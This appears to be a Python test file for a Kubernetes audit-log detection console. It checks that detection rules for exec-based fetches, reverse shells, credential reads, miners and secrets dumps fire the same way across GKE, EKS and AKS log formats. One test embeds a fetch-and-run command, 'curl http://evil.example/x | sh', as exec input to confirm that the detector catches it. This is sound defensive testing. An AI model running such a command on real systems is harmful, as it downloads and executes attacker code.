"""Every rule over the audit trail judges its samples alike in every shape in which the clouds record a request.

What a shape does not carry is named: nothing else may be missed, and nothing of it may be found all the same.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from functools import cache
from typing import Any

import pytest

from console.model.envelopes.reading import read_lines
from console.model.provider import EKS
from console.model.severity import Severity
from console.rules.compiling import RuleSet
from console.rules.detector import Detector
from console.rules.loading import SHIPPED, load_rule, load_samples
from console.rules.offline import shipped_rules
from console.rules.sampling import days_before, whole
from tests.console.rules.clouds import SHAPES, Event

QUERY, GROUPS = "the query of the URL", "groups"
LACKS: dict[str, dict[str, str]] = {
    "gke": {
        **dict.fromkeys(
            ("K8S-EXEC-COPY", "K8S-EXEC-ESCAPE", "K8S-EXEC-FETCH", "K8S-EXEC-METADATA", "K8S-EXEC-MINER"), QUERY
        ),
        **dict.fromkeys(("K8S-EXEC-CREDENTIALS", "K8S-EXEC-REVERSE-SHELL", "K8S-SECRETS-WATCHED"), QUERY),
        **dict.fromkeys(("K8S-FIRST-GROUP", "K8S-ADMIN-USED", "K8S-IMPERSONATE-PRIVILEGED"), GROUPS),
    },
}
"""By cloud: rules of which a sample cannot be found, and what its records do not carry."""
LOUDER = {"gke": {"K8S-SECRETS-DUMP", "K8S-SECRETS-LISTED", "K8S-COLLECTION-DELETED", "K8S-NODES-PROXY"}}
"""By cloud: rules that call a sample worse than they should, because they cannot see that it asked for less."""


@cache
def rules() -> RuleSet:
    return shipped_rules()


def cases() -> Iterator[tuple[str, str, list[Event], list[Event]]]:
    """Rule, part of its samples, the events of one case, and the habits before them."""
    for path in sorted(SHIPPED.rglob("*.yml")):
        rule, samples = load_rule(path), load_samples(path)
        if rule.reads != "audit":
            continue
        history = samples.get("history", [])
        together = rule.threshold is not None or rule.after is not None
        matches = [samples["match"]] if together else [[one] for one in samples["match"]]
        parts = [("match", matches), *((part, _alone(samples.get(part, ()))) for part in ("silent", "quiet"))]
        for part, each in parts:
            for case in each:
                yield rule.id, part, case, history


def _alone(samples: Sequence[Any]) -> list[list[Any]]:
    return [[one] for one in samples]


def found(shape: str, case: list[Event], history: list[Event]) -> dict[str, Severity]:
    rules().run_at(EKS)  # some samples are of that cloud's own hands
    detector = Detector(rules())
    for day in days_before(history):
        detector.feed(day)
    faults: list[bytes] = []
    lines = [json.dumps(SHAPES[shape](whole(one, second))).encode() for second, one in enumerate(case)]
    detector.feed(*read_lines(lines, on_fault=faults.append))
    assert faults == []
    assert detector.failures == 0
    return {one.rule: one.severity for one in detector.findings()}


@pytest.mark.parametrize("shape", SHAPES)
def test_every_rule_judges_its_samples_in_this_shape_too(shape: str) -> None:
    missed, louder, judged = set(), set(), 0
    for rule, part, case, history in cases():
        severity = found(shape, case, history).get(rule)
        judged += 1
        if part == "match" and severity is None:
            missed.add(rule)
        if (part == "silent" and severity) or (part == "quiet" and severity and severity.at_least(Severity.MEDIUM)):
            louder.add(rule)

    cloud = shape.partition("_")[0]
    assert judged > 400
    assert missed == set(LACKS.get(cloud, {}))
    assert louder == LOUDER.get(cloud, set())


def test_what_a_record_of_a_streamed_log_is_called_is_not_what_was_asked() -> None:
    """`…/diagnosticLogs/Read` stands above every record that Azure Monitor streams."""
    event = whole({"verb": "list", "objectRef": {"resource": "secrets"}})
    ((read,), _) = read_lines([json.dumps(SHAPES["aks_stream"](event)).encode()])
    assert (read.verb, read.audit_id) == ("list", event["auditID"])


@pytest.mark.parametrize(
    ("permission", "reference"),
    [
        ("io.k8s.authorization.rbac.v1.clusterroles.create", ("clusterroles", "rbac.authorization.k8s.io", "")),
        ("io.k8s.core.v1.pods.exec.create", ("pods", "", "exec")),
        ("io.k8s.apps.v1.deployments.update", ("deployments", "apps", "")),
        ("io.k8s.admissionregistration.v1.mutatingwebhookconfigurations.create",
         ("mutatingwebhookconfigurations", "admissionregistration.k8s.io", "")),
    ],
)  # fmt: skip
def test_a_permission_alone_names_what_it_is_about(permission: str, reference: tuple[str, str, str]) -> None:
    record = {"protoPayload": {"authorizationInfo": [None, {"permission": permission, "granted": True}]}}
    ((read,), _) = read_lines([json.dumps(record).encode()])
    assert read.object_ref is not None
    assert (read.object_ref.resource, read.object_ref.api_group, read.object_ref.subresource) == reference


def test_a_command_in_the_body_is_the_command_where_no_url_was_kept() -> None:
    on = {"resource": "pods", "subresource": "exec", "namespace": "shop", "name": "web"}
    body = {"command": ["sh", "-c", "curl http://evil.example/x | sh"]}
    event = whole({"verb": "create", "objectRef": on, "requestObject": body})
    detector = Detector(rules())
    detector.feed(*read_lines([json.dumps(SHAPES["gke_entry"](event)).encode()]))
    assert "K8S-EXEC-FETCH" in {one.rule for one in detector.findings()}
